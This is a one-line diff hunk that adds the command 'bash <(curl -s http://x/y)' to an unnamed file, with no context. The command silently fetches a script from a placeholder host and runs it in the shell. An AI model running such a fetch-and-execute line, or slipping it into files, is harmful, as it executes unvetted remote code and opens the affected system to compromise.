@@ -1,0 +1,1 @@
+bash <(curl -s http://x/y)
